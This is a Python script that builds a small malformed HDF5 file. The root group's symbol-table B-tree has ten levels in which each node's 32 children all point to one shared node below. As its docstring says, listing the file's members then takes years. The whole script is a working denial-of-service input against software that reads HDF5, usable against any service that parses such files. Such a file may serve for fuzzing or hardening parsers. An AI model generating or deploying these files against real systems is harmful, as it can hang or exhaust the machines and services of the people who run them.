#!/usr/bin/env python3
"""loop_hdf5.py: writes as FILE an HDF5 file of some kB whose list of members takes years to go through.

Its root group is a symbol table of version 0 of the HDF5 file format, whose B-tree has ten levels of
nodes with 32 children, which are one and the same node of the level below; the leaves are empty.

SPDX-License-Identifier: BSD-2-Clause
"""

import struct
import sys

NONE = 0xFFFFFFFFFFFFFFFF
CHILDREN, LEVELS = 32, 10
HEADER, TREE = 96, 1024  # addresses: the root's object header, and the first node
NODE = 24 + 8 * (2 * CHILDREN + 1)
HEAP = HEADER + 16 + 8 + 16
LEAF = TREE + LEVELS * NODE


def superblock(length):
    entry = struct.pack("<QQII", 0, HEADER, 1, 0) + struct.pack("<QQ", TREE, HEAP)
    return (b"\x89HDF\r\n\x1a\n" + bytes([0, 0, 0, 0, 0, 8, 8, 0])
            + struct.pack("<HHI", 4, CHILDREN // 2, 0) + struct.pack("<QQQQ", 0, NONE, length, NONE)
            + entry)


def root():
    message = struct.pack("<HHB3x", 0x11, 16, 0) + struct.pack("<QQ", TREE, HEAP)
    return struct.pack("<BxHII4x", 1, 1, 1, len(message)) + message


def heap():
    data = HEAP + 32
    return b"HEAP" + struct.pack("<B3xQQQ", 0, 64, 1, data) + bytes(64)


def node(level):
    child = TREE + (LEVELS - level) * NODE if level else LEAF
    pairs = struct.pack("<QQ", 0, child) * CHILDREN + struct.pack("<Q", 0)
    return b"TREE" + struct.pack("<BBHQQ", 0, level, CHILDREN, NONE, NONE) + pairs


def main():
    leaf = b"SNOD" + struct.pack("<BxH", 1, 0) + bytes(8 * 40)
    image = bytearray(LEAF + len(leaf))
    for at, piece in [(0, superblock(len(image))), (HEADER, root()), (HEAP, heap()), (LEAF, leaf)]:
        image[at:at + len(piece)] = piece
    for i in range(LEVELS):
        piece = node(LEVELS - 1 - i)
        image[TREE + i * NODE:TREE + (i + 1) * NODE] = piece
    with open(sys.argv[1], "wb") as file:
        file.write(image)


if __name__ == "__main__":
    main()
